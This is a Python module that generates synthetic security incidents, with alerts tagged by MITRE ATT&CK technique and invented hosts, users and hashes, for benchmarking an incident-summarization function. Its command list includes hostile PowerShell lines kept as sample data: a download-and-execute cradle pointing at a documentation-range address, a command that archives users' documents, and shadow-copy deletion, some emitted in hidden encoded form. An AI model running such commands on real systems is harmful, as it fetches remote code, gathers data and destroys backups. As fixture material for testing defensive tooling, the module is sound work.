"""Synthetic incidents in Wingman's own form, of any size, for timing SummarizeIncident.

Everything is generated: host and user names are invented, addresses come from documentation
ranges, hashes are random hex. A seed makes every incident reproducible.
"""

from __future__ import annotations

import base64
import random
from datetime import UTC, datetime, timedelta
from typing import Any

# (title, tactic, technique, kinds of entity the alert names)
_ALERTS: tuple[tuple[str, str, str, tuple[str, ...]], ...] = (
    (
        "Phishing email with a malicious attachment delivered",
        "initial-access",
        "T1566.001",
        ("email_message", "mailbox", "file"),
    ),
    ("Suspicious PowerShell command line", "execution", "T1059.001", ("device", "user", "process")),
    ("Run key added for persistence", "persistence", "T1547.001", ("device", "registry")),
    (
        "Credential dumping from LSASS memory",
        "credential-access",
        "T1003.001",
        ("device", "user", "process"),
    ),
    (
        "Lateral movement with remote services",
        "lateral-movement",
        "T1021.002",
        ("device", "device", "user"),
    ),
    (
        "Connection to a known command and control server",
        "command-and-control",
        "T1071.001",
        ("device", "ip", "url"),
    ),
    ("Possible data exfiltration to cloud storage", "exfiltration", "T1567.002", ("device", "url")),
    ("Ransomware encrypted files", "impact", "T1486", ("device", "file")),
    ("Suspicious inbox forwarding rule", "collection", "T1114.003", ("user", "mailbox")),
    ("Sign-in from an anonymous IP address", "initial-access", "T1078", ("user", "ip")),
)
_COMMANDS = (
    "Start-Process notepad.exe",
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.{n}/s.ps1')",
    "Get-ChildItem C:\\Users -Recurse -Include *.docx | Compress-Archive -DestinationPath t{n}.zip",
    "vssadmin delete shadows /all /quiet",
)


def incident(alerts: int, *, seed: int = 0) -> dict[str, Any]:
    """A Wingman-form incident with this many alerts over a few hours and a few dozen entities."""
    rng = random.Random(seed)
    start = datetime(2026, 3, 2, 8, 0, tzinfo=UTC) + timedelta(minutes=seed)
    entities: dict[str, dict[str, Any]] = {}
    out_alerts = []
    for i in range(alerts):
        title, tactic, technique, kinds = _ALERTS[rng.randrange(len(_ALERTS))]
        names = [_entity(kind, rng, entities, seed) for kind in kinds]
        moment = start + timedelta(seconds=rng.randrange(6 * 3600))
        out_alerts.append(
            {
                "id": f"a{seed}-{i}",
                "title": title,
                "severity": rng.choice(["low", "medium", "high"]),
                "source": rng.choice(["EDR", "Mail gateway", "Identity"]),
                "first_activity": moment.isoformat().replace("+00:00", "Z"),
                "tactics": [tactic],
                "techniques": [technique],
                "entities": list(dict.fromkeys(names)),
            }
        )
    return {
        "kind": "wingman.incident",
        "version": 1,
        "id": f"INC-{seed}",
        "title": f"Synthetic incident {seed}",
        "alerts": out_alerts,
        "entities": list(entities.values()),
    }


def _entity(kind: str, rng: random.Random, entities: dict[str, dict[str, Any]], seed: int) -> str:
    n = rng.randrange(20)
    value, attributes = {
        "device": lambda: (f"ws-{n:03d}.corp.example", {"hostname": f"ws-{n:03d}"}),
        "user": lambda: (f"user{n % 10}@corp.example", {"upn": f"user{n % 10}@corp.example"}),
        "ip": lambda: (f"203.0.113.{n + 1}", {}),
        "url": lambda: (f"https://files{n % 5}.example.net/u/{n}", {}),
        "mailbox": lambda: (f"user{n % 10}@corp.example", {}),
        "email_message": lambda: (f"Invoice {n % 4}", {"sender": f"billing{n % 4}@pay.example"}),
        "file": lambda: (f"payload{n % 6}.exe", {"sha256": f"{rng.getrandbits(256):064x}"}),
        "registry": lambda: (
            "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            {"value_name": f"upd{n % 3}"},
        ),
        "process": lambda: _process(rng, n, seed),
    }[kind]()
    entity_id = f"{kind}-{value}"
    entities.setdefault(
        entity_id, {"id": entity_id, "type": kind, "value": value, "attributes": attributes}
    )
    return entity_id


def _process(rng: random.Random, n: int, seed: int) -> tuple[str, dict[str, str]]:
    command = _COMMANDS[rng.randrange(len(_COMMANDS))].format(n=n + seed % 7)
    encoded = base64.b64encode(command.encode("utf-16-le")).decode()
    line = f"powershell.exe -nop -w hidden -enc {encoded}" if n % 2 else f"powershell.exe {command}"
    return line, {"command_line": line, "image": "powershell.exe"}
